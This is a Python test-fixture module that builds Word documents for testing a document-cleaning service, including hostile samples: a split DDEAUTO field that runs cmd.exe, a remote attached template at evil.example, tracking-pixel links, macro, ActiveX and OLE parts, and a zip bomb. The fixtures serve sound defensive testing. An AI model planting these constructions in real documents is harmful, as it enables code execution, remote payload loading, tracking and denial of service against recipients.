"""Word documents of real producers, and with each thing that acts."""

from __future__ import annotations

import io
import zipfile

import docx as python_docx
from docx.shared import Inches

from services.applications.papers.adapters.cleaning.docx_relationships import OUTSIDE
from tests.applications.facts import OFFICE, PACKAGE, docx, relationships
from tests.applications.papers.photo_corpus import photo

__all__ = ["OUTSIDE"]

W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
RELS = "word/_rels/document.xml.rels"
BODY = "word/document.xml"


def body(inside: str) -> bytes:
    return (
        f'<w:document xmlns:w="{W}" xmlns:r="{OFFICE}" xmlns:o="urn:schemas-microsoft-com:office:office">'
        f"<w:body><w:p><w:r><w:t>Ana Maria</w:t></w:r></w:p>{inside}</w:body></w:document>"
    ).encode()


def by_python_docx() -> bytes:
    made = python_docx.Document()
    made.add_heading("Curriculum vitae")
    made.add_paragraph("Ana Maria Example", style="List Bullet")
    made.add_table(2, 2).cell(0, 0).text = "2024"
    made.add_picture(io.BytesIO(photo("PNG")), width=Inches(2))
    made.sections[0].header.paragraphs[0].text = "Ana Maria"
    file = io.BytesIO()
    made.save(file)
    return file.getvalue()


def word_online() -> bytes:
    with zipfile.ZipFile(io.BytesIO(by_python_docx())) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            renamed = content.replace(b"word/document.xml", b"word/document2.xml")
            archive.writestr(name.replace("document.xml", "document2.xml"), renamed)
    return file.getvalue()


def blank_image() -> bytes:
    """A white picture packs to a thousandth of its size."""
    blank = b"BM" + b"\xff" * 5_000_000
    return docx(**{RELS: relationships(r1=("image", "media/image1.bmp")), "word/media/image1.bmp": blank})


def _outside(kind: str, target: str, inside: str) -> bytes:
    return docx(**{RELS: relationships("External", r1=(kind, target)), BODY: body(inside)})


def web_link() -> bytes:
    link = '<w:p><w:hyperlink r:id="r1"><w:r><w:t>mine</w:t></w:r></w:hyperlink></w:p>'
    return _outside("hyperlink", "https://example.org", link)


def outside_picture() -> bytes:
    return _outside("image", "https://tracker.example/x.png", '<w:p><w:drawing r:link="r1"/></w:p>')


def attached_template() -> bytes:
    settings = f'<w:settings xmlns:w="{W}" xmlns:r="{OFFICE}"><w:attachedTemplate r:id="r1"/></w:settings>'
    return docx(
        **{
            RELS: relationships(s1=("settings", "settings.xml")),
            "word/settings.xml": settings.encode(),
            "word/_rels/settings.xml.rels": relationships(
                "External", r1=("attachedTemplate", "https://evil.example/t.dotm")
            ),
        }
    )


def _inner(kind: str, part: str, inside: str) -> bytes:
    return docx(**{RELS: relationships(r1=(kind, part)), f"word/{part}": b"\xd0\xcf", BODY: body(inside)})


def macros() -> bytes:
    types = (
        f'<Types xmlns="{PACKAGE}/content-types"><Override PartName="/word/document.xml" '
        'ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>'
    )
    parts = {RELS: relationships(r1=("vbaProject", "vbaProject.bin")), "word/vbaProject.bin": b"\xd0\xcf"}
    return docx(**{"[Content_Types].xml": types.encode(), **parts})


def active_x() -> bytes:
    return _inner("control", "activeX/activeX1.xml", '<w:p><w:object><w:control r:id="r1"/></w:object></w:p>')


def ole() -> bytes:
    return _inner(
        "oleObject", "embeddings/oleObject1.bin", '<w:p><w:object><o:OLEObject r:id="r1"/></w:object></w:p>'
    )


def html_chunk() -> bytes:
    return _inner("aFChunk", "chunk.html", '<w:altChunk r:id="r1"/>')


def _field(*instruction: str) -> bytes:
    runs = "".join(f"<w:r><w:instrText>{part}</w:instrText></w:r>" for part in instruction)
    marks = [f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>' for kind in ("begin", "separate", "end")]
    shown = "<w:r><w:t>shown</w:t></w:r>"
    return docx(**{BODY: body(f"<w:p>{marks[0]}{runs}{marks[1]}{shown}{marks[2]}</w:p>")})


def dde() -> bytes:
    return _field(" DD", "EAUTO c:\\\\windows\\\\cmd.exe ", '"/k calc"')


def include_picture() -> bytes:
    return _field(' INCLUDEPICTURE "https://tracker.example/x.png" ')


def entities() -> bytes:
    return docx(**{BODY: b'<!DOCTYPE x [<!ENTITY a "aaaa">]><document>&a;</document>'})


def many_parts() -> bytes:
    return docx(**{f"word/{number}.xml": b"" for number in range(2_000)})


def zip_bomb() -> bytes:
    return docx(**{f"word/media/image{number}.bmp": bytes(40_000_000) for number in range(3)})


def other_zip(name: str) -> bytes:
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w") as archive:
        archive.writestr(name, "hello")
    return file.getvalue()


def text_of(content: bytes) -> str:
    """What python-docx reads, tables and headers too."""
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        names = [name for name in archive.namelist() if name.startswith("word/document")]
        return b"".join(archive.read(name) for name in names).decode()
